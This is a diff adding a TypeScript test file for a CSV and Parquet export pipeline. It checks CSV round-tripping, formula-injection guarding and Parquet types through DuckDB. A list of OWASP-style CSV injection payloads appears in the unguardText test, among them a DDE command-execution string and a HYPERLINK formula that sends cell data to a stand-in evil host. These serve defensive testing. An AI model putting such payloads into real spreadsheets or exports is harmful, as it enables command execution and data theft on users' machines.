@@ -1,0 +1,116 @@
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { csvRecords } from '../../src/core/export/csvRecords.ts';
+import { parquetTypes } from '../../src/core/export/parquetTypes.ts';
+import { rowsCsvToParquet, tableParquet } from '../../src/core/export/toParquet.ts';
+import { generateCsv } from '../../src/core/generate/generate.ts';
+import { defaultLookups } from '../../src/core/lookups/defaults.ts';
+import { withDefaults } from '../../src/core/options.ts';
+import { csvLine, quoteCell, textCell, unguardText } from '../../src/core/output/csv.ts';
+import { columnKind, tableFiles } from '../../src/core/pipeline/tables.ts';
+import { runInMemory } from '../../src/core/pipeline/runInMemory.ts';
+import { expectSameTable, parquetSchema } from '../support/duckdbCompare.ts';
+
+const encoder = new TextEncoder();
+
+async function* blocks(bytes: Uint8Array, sizes: number[]): AsyncGenerator<Uint8Array> {
+  let at = 0;
+  for (let k = 0; at < bytes.length; k++) {
+    const size = sizes[k % sizes.length]!;
+    yield bytes.slice(at, at + size);
+    at += size;
+  }
+}
+
+async function all(records: AsyncIterable<string[]>): Promise<string[][]> {
+  const out: string[][] = [];
+  for await (const record of records) out.push(record);
+  return out;
+}
+
+describe('csvRecords: reading back the CSV this app writes', () => {
+  const cell = fc.string({ unit: fc.constantFrom('a', 'é', '€', '😀', ',', '"', '\r\n', '\n', ' ', '=', "'") });
+  const table = fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 20 });
+
+  it('gives the cells written, whatever the blocks it is read in', async () => {
+    await fc.assert(
+      fc.asyncProperty(table, fc.array(fc.integer({ min: 1, max: 17 }), { minLength: 1, maxLength: 5 }), async (rows, sizes) => {
+        const bytes = encoder.encode(rows.map((row) => csvLine(row.map(quoteCell))).join(''));
+        expect(await all(csvRecords(blocks(bytes, sizes)))).toEqual(rows);
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  it('says so when the file ends inside a record', async () => {
+    await expect(all(csvRecords(blocks(encoder.encode('a,b\r\n1,"2\r\n'), [4])))).rejects.toThrow('cut short');
+  });
+});
+
+describe('unguardText undoes textCell', () => {
+  const owasp = ["=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1,1)', '\tfoo', '\rfoo', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '=', '-x@y.com', '-5.00', "'quoted", "'-5.00", 'plain'];
+  it.each(owasp)('%j', (value) => {
+    const written = textCell(value);
+    const [read] = written.startsWith('"') ? [written.slice(1, -1).replaceAll('""', '"')] : [written];
+    expect(unguardText(read!)).toBe(value);
+  });
+
+  it('cannot tell a value that began with an apostrophe and a formula character from a guarded one', () => {
+    expect(unguardText(textCell("'=1"))).toBe('=1');
+  });
+});
+
+describe('Parquet files of a job, read back by DuckDB', () => {
+  const hostile =
+    'order_id,product_name,category,quantity,unit_price,discount_percent,region,sale_date\n' +
+    `=1+1,"=HYPERLINK(""x"")",Electronics,2,10,0,North America,2024-03-05\n` +
+    `@2,-Gift,=Electronics,1,5,0,North America,2024-03-05\n` +
+    `ORD-9,"Multi\nline, ""quoted""",Grocery,3,2.5,0.1,Europe,2024-04-01\n` +
+    `+3,Café ☕,Grocery,oops,1,0,Europe,2024-04-01,extra,"fields"\n`;
+  const generated = [...generateCsv({ rows: 3000, seed: 5, clean: false, endDate: '2024-06-30' })].join('');
+
+  it.each([
+    ['hostile cells', hostile],
+    ['3,000 generated dirty rows', generated],
+  ])('every table of %s has the CSV rows and the declared types', async (_name, input) => {
+    const result = await runInMemory(input, withDefaults({ reference_date: '2024-06-30' }), defaultLookups());
+    const dir = mkdtempSync(join(tmpdir(), 'parquet-'));
+    const tables = result.tables.map((table) => ({ name: table.name as string, csv: tableFiles([table])[0]![1], parquet: tableParquet(table), columns: table.columns }));
+    for (const [name, csv] of [
+      ['cleaned_rows', result.cleanedCsv],
+      ['rejected_rows', result.rejectedCsv],
+    ] as const) {
+      const parts: Uint8Array[] = [];
+      // Small row groups: the file is written in several.
+      for await (const part of rowsCsvToParquet(name, blocks(encoder.encode(csv), [4096]), 700)) parts.push(part);
+      const header = (await all(csvRecords(blocks(encoder.encode(csv), [1 << 20]))))[0]!;
+      tables.push({ name, csv, parquet: Buffer.concat(parts), columns: header });
+    }
+    expect(tables.map((t) => t.name).sort()).toHaveLength(12);
+    for (const table of tables) {
+      writeFileSync(join(dir, `${table.name}.csv`), table.csv);
+      writeFileSync(join(dir, `${table.name}.parquet`), table.parquet);
+      const guarded = table.columns.map((column, i) => (table.name === 'rejected_rows' ? i > 1 : columnKind(column) === 'text'));
+      const types = parquetTypes(table.name, table.columns.map((c, i) => (guarded[i] ? unguardText(c) : c)));
+      await expectSameTable(join(dir, `${table.name}.parquet`), join(dir, `${table.name}.csv`), types, guarded);
+    }
+    expect(Object.fromEntries(await parquetSchema(join(dir, 'cleaned_rows.parquet')))).toEqual({
+      row_number: 'BIGINT',
+      order_id: 'VARCHAR',
+      product_name: 'VARCHAR',
+      category: 'VARCHAR',
+      quantity: 'BIGINT',
+      unit_price: 'DOUBLE',
+      discount_percent: 'DOUBLE',
+      region: 'VARCHAR',
+      sale_date: 'DATE',
+      sale_ts: 'BIGINT',
+      customer_email: 'VARCHAR',
+      revenue: 'DOUBLE',
+      anomaly_flag: 'VARCHAR',
+    });
+  }, 60_000);
+});
